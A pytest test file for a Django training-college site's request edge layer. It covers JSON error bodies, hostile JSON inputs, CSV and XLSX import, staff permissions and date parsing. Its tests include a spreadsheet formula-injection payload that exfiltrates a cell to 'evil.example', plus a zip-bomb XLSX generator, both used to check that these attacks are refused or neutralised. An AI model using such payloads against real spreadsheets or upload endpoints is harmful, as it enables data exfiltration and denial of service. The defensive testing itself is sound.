"""The shared edge layer: JSON error format, request language, safe bodies, spreadsheets, guards."""

import io
import json
import zipfile
from decimal import Decimal

import pytest
from django.contrib.auth.models import AnonymousUser
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import JsonResponse
from django.test import RequestFactory
from openpyxl import Workbook, load_workbook

from college.core import params, spreadsheets
from college.core.jsonapi import ApiError, json_api, read_json_object
from college.core.staff import StaffMenuItem, staff_permission_required
from tests.accounts.factories import UserFactory


# ---------------------------------------------------------------------------
# Requests refused at the edge
# ---------------------------------------------------------------------------
@pytest.mark.django_db
@pytest.mark.parametrize(
    "url, language_text",
    [
        ("/search/?q=%00&page=%00", "请求无法识别"),
        ("/en/search/?q=%00", "Bad request"),
        ("/courses/?topic=%00", "请求"),
    ],
)
def test_a_nul_character_in_the_query_gets_a_400_page_in_the_visitors_language(client, home_page, url, language_text):
    response = client.get(url)
    assert response.status_code == 400
    assert language_text in response.content.decode()


@pytest.mark.django_db
def test_a_nul_character_under_api_gets_the_json_error_body(client):
    response = client.get("/api/visits/requests/%00/", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    assert response.json() == {"code": "invalid", "errors": {"__all__": ["The request could not be read."]}}


@pytest.mark.django_db
def test_an_unknown_api_address_answers_json_404_in_the_clients_language(client):
    response = client.get("/api/no-such-thing/", HTTP_ACCEPT_LANGUAGE="zh-CN")
    assert response.status_code == 404
    assert response["Content-Type"] == "application/json"
    assert response.json() == {"code": "not_found", "errors": {"__all__": ["未找到。"]}}
    assert client.get("/api/no-such-thing/", HTTP_ACCEPT_LANGUAGE="en").json()["errors"] == {"__all__": ["Not found."]}


@pytest.mark.django_db
def test_a_missing_page_is_still_an_html_page(client, home_page):
    response = client.get("/no-such-page/")
    assert response.status_code == 404
    assert response["Content-Type"].startswith("text/html")


# ---------------------------------------------------------------------------
# json_api: methods, CSRF, ApiError, language
# ---------------------------------------------------------------------------
@json_api(methods=["POST"])
def _echo(request):
    data = read_json_object(request, max_bytes=200)
    if "boom" in data:
        raise ApiError("refused", field="boom", status=409, code="conflict", places_left=2)
    return JsonResponse({"got": data})


@json_api(methods=["POST"], csrf=False)
def _machine_echo(request):
    return JsonResponse(read_json_object(request))


def _post(body, **headers):
    request = RequestFactory().post("/api/echo/", data=body, content_type="application/json", **headers)
    request.user = AnonymousUser()
    return request


def test_json_api_answers_an_undeclared_method_with_json_405_and_allow():
    request = RequestFactory().put("/api/echo/", HTTP_ACCEPT_LANGUAGE="en")
    response = _echo(request)
    assert response.status_code == 405
    assert response["Allow"] == "POST"
    assert json.loads(response.content) == {"code": "method", "errors": {"__all__": ["Use POST."]}}


def test_json_api_refuses_a_post_without_csrf_token_as_json_and_machines_may_skip_it():
    response = _echo(_post("{}", HTTP_X_LANGUAGE="en"))
    assert response.status_code == 403
    assert json.loads(response.content)["code"] == "csrf"
    assert _machine_echo(_post('{"a": 1}')).status_code == 200


def test_json_api_turns_api_errors_into_the_shared_body_with_extras():
    request = _post('{"boom": true}', HTTP_X_LANGUAGE="en")
    request._dont_enforce_csrf_checks = True
    response = _echo(request)
    assert response.status_code == 409
    assert json.loads(response.content) == {"code": "conflict", "errors": {"boom": ["refused"]}, "places_left": 2}


@pytest.mark.parametrize(
    "body, status, message",
    [
        ("x" * 201, 413, "请求过大。"),
        ("[" * 40 + "]" * 40, 400, "请求嵌套过深。"),
        ('{"a":' * 30 + "1" + "}" * 30, 400, "请求嵌套过深。"),
        ('{"a": NaN}', 400, "请发送一个 JSON 对象。"),
        ("[1, 2]", 400, "请发送一个 JSON 对象。"),
        (b"\xff\xfe", 400, "请发送一个 JSON 对象。"),
        ('{"a": "x\\u0000y"}', 400, "文本中不能含有空字符（NUL）。"),
        ('{"a\\u0000": 1}', 400, "文本中不能含有空字符（NUL）。"),
    ],
)
def test_hostile_json_bodies_are_refused_in_the_requests_language(body, status, message):
    request = _post(body, HTTP_ACCEPT_LANGUAGE="zh-CN")
    request._dont_enforce_csrf_checks = True
    response = _echo(request)
    assert response.status_code == status
    assert json.loads(response.content)["errors"] == {"__all__": [message]}


def test_a_string_that_merely_contains_brackets_is_not_deep():
    request = _post(json.dumps({"text": "[" * 100}))
    request._dont_enforce_csrf_checks = True
    assert json.loads(_echo(request).content) == {"got": {"text": "[" * 100}}


def test_x_language_wins_over_accept_language():
    request = RequestFactory().get("/api/echo/", HTTP_X_LANGUAGE="en", HTTP_ACCEPT_LANGUAGE="zh-CN")
    assert json.loads(_echo(request).content)["errors"] == {"__all__": ["Use POST."]}


# ---------------------------------------------------------------------------
# Spreadsheets
# ---------------------------------------------------------------------------
def _upload(name, data):
    return SimpleUploadedFile(name, data)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_csv_is_read_in_utf8_with_or_without_bom_and_in_gb18030(encoding):
    data = "姓名,单位\n张三,枫桥派出所\n".encode(encoding)
    rows = spreadsheets.read_table(_upload("名单.csv", data), max_bytes=10_000, max_rows=10)
    assert rows == [["姓名", "单位"], ["张三", "枫桥派出所"]]


def _xlsx(rows):
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_xlsx_is_read_with_numbers_as_text():
    data = _xlsx([["姓名", "手机"], ["李四", 13800000000]])
    assert spreadsheets.read_table(_upload("a.xlsx", data), max_bytes=100_000, max_rows=10) == [
        ["姓名", "手机"],
        ["李四", "13800000000"],
    ]


def _zip_bomb(sheet_bytes):
    """A small XLSX whose sheet XML unpacks to ``sheet_bytes`` (every row numbered 1)."""
    good = zipfile.ZipFile(io.BytesIO(_xlsx([["name"]])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in good.infolist():
            if item.filename == "xl/worksheets/sheet1.xml":
                row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'
                body = row * (sheet_bytes // len(row))
                xml = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                bomb.writestr(item.filename, xml + body + b"</sheetData></worksheet>")
            else:
                bomb.writestr(item.filename, good.read(item.filename))
    return buffer.getvalue()


def test_an_xlsx_that_unpacks_to_megabytes_is_refused_before_parsing():
    data = _zip_bomb(20 * 1024 * 1024)
    assert len(data) < 200 * 1024
    with pytest.raises(spreadsheets.SpreadsheetError) as error:
        spreadsheets.read_table(_upload("bomb.xlsx", data), max_bytes=200 * 1024, max_rows=100)
    assert "split it" in str(error.value) or "拆分" in str(error.value)


@pytest.mark.parametrize(
    "name, data",
    [
        ("roster.xlsx", "姓名\n张三\n".encode()),  # text named .xlsx
        ("roster.csv", _xlsx([["姓名"]])),  # a workbook named .csv
        ("roster.txt", "姓名\n张三\n".encode()),
        ("roster.xlsx", b"PK\x03\x04 not really a zip"),
        ("roster.xlsx", b"PK\x03\x04" + b"\x00" * 100),
        ("roster.csv", b"\xff\xfe\x00n\x00a"),
    ],
)
def test_files_that_are_not_what_they_say_are_refused(name, data):
    with pytest.raises(spreadsheets.SpreadsheetError):
        spreadsheets.read_table(_upload(name, data), max_bytes=100_000, max_rows=10)


def test_rows_beyond_the_limit_are_not_read():
    data = ("name\n" + "张三\n" * 1000).encode()
    rows = spreadsheets.read_table(_upload("a.csv", data), max_bytes=100_000, max_rows=10)
    # the header and one body row more than allowed: the caller sees the file is too long
    assert len(rows) == 12


@pytest.mark.parametrize(
    "value, cell",
    [
        ('=HYPERLINK("http://evil.example/?a="&A1,"x")', '\'=HYPERLINK("http://evil.example/?a="&A1,"x")'),
        ("+86 138", "'+86 138"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-3", "-3"),
        (3, 3),
        (Decimal("1.50"), 1.5),
        ("枫桥派出所", "枫桥派出所"),
    ],
)
def test_exports_neutralise_formulas_and_keep_numbers(value, cell):
    assert spreadsheets.safe_cell(value) == cell


def test_csv_and_xlsx_exports_write_formula_text_as_inert_text():
    evil = "=1+1"
    csv_text = spreadsheets.csv_bytes(["单位", "学时"], [[evil, Decimal("2")]]).decode("utf-8-sig")
    assert csv_text.splitlines() == ["单位,学时", "'=1+1,2.00"]
    workbook = load_workbook(io.BytesIO(spreadsheets.xlsx_bytes(["单位"], [[evil]], title="a/b:c")))
    cell = workbook.active["A2"]
    assert cell.value == "'=1+1" and cell.data_type == "s"
    assert workbook.active.title == "abc"


# ---------------------------------------------------------------------------
# Staff guards and menu items
# ---------------------------------------------------------------------------
@pytest.mark.django_db
def test_staff_guard_and_menu_item_follow_one_permission():
    @staff_permission_required("courses.view_creditentry")
    def screen(request):
        return "ok"

    item = StaffMenuItem("Reports", "courses_admin:credit_reports", "courses.view_creditentry")
    request = RequestFactory().get("/admin/")
    request.user = UserFactory()
    with pytest.raises(PermissionDenied):
        screen(request)
    assert not item.is_shown(request)
    request.user = UserFactory(roles=["Training staff"])
    assert screen(request) == "ok"
    assert item.is_shown(request)


# ---------------------------------------------------------------------------
# Query parameters at the edges of the calendar
# ---------------------------------------------------------------------------
@pytest.mark.parametrize("value", ["9999-12-31", "0001-01-01", "2026-02-30", "\x00", None, ""])
def test_dates_the_site_cannot_hold_are_not_parsed(value):
    assert params.parse_date(value) is None


def test_years_out_of_range_fall_back():
    assert params.year_param("99999", default=2026) == 2026
    assert params.year_param("2024", default=2026) == 2024
    assert params.year_param("abc", default=2026) == 2026
